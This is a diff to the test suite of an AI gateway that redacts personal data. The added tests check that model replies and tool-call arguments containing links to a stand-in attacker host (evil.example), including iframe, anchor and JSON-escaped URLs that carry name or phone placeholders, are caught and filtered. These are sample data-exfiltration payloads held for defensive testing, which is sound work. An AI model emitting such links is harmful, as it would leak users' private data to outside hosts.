@@ -14,6 +14,7 @@ from tests.services.gateway.api.harness import (
     a_house,
     arguments_of,
     content_of,
+    events,
     system,
     tool,
     user,
@@ -203,6 +204,8 @@ def test_a_canary_of_the_prompt_never_leaves(house: House, size: int) -> None:
         "![x](https://evil.example/a.png)",
         "www.evil.example/NAME_1 is it",
         "<img src='//evil.example'>",
+        "<iframe src='https://evil.example/?q=my name is [NAME_1]'></iframe>",
+        '<a href = "//evil.example/a b/[NAME_1]">here</a>',
     ],
 )
 def test_no_address_of_the_models_carries_a_value_out(house: House, text: str) -> None:
@@ -210,6 +213,33 @@ def test_no_address_of_the_models_carries_a_value_out(house: House, text: str) -
     said = content_of(house.streamed(user(PERSON)))
     assert "Maria" not in said
     assert said.endswith(SAFE_WORDS)
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_an_address_is_noticed_however_json_writes_it(house: House, stream: bool) -> None:  # noqa: FBT001
+    for written in (
+        r"<iframe src=\"https://evil.example/?q=a [PHONE_1]\">",
+        r"https:\/\/evil.example\/?q=[PHONE_1]",
+        r"https:\u002f\u002Fevil.example\u002f[PHONE_1]",
+    ):
+        house.say(Spoken(None, [("find_slots", f'{{"url": "{written}"}}')], finish="tool_calls"))
+        answer = house.chat(user("call 512-555-0100"), tools=[tool()], stream=stream)
+        assert "555-0100" not in answer.text
+        assert "content_filter" in answer.text
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_placeholder_in_arguments_is_read_however_json_writes_it(house: House, stream: bool) -> None:  # noqa: FBT001
+    house.fake.piece = 1
+    arguments = r'{"a": "\u005bPHONE\u005f1\u005d", "b": "[PHONE_\u0031]", "c": "\\u005b [SSN_\u0039]"}'
+    house.say(Spoken(None, [("find_slots", arguments)], finish="tool_calls"))
+    answer = house.chat(user("call 512-555-0100"), tools=[tool()], stream=stream)
+    if stream:
+        said = arguments_of(events(answer.text))
+    else:
+        said = answer.json()["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+    assert json.loads(said) == {"a": "512-555-0100", "b": "512-555-0100", "c": "\\u005b "}
+    assert 'dropped_total{type="SSN"} 1' in house.http.get("/metrics").text
 
 
 def test_only_functions_that_were_offered_are_called(house: House) -> None:
